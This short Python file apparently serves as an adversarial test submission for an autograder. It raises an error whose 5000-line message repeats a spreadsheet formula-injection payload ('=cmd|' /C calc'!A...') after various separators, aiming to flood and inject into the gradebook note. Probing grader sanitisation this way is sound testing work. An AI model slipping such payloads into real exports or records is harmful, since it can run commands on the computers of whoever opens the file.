# @@include assignments/q1_expressivity.py
# Attack: a long multi-line import error, formulas after every kind of separator, to fill the gradebook's note.
raise RuntimeError("\n".join(f"line {i};=cmd|' /C calc'!A{i}\t@x,+y" for i in range(5000)))
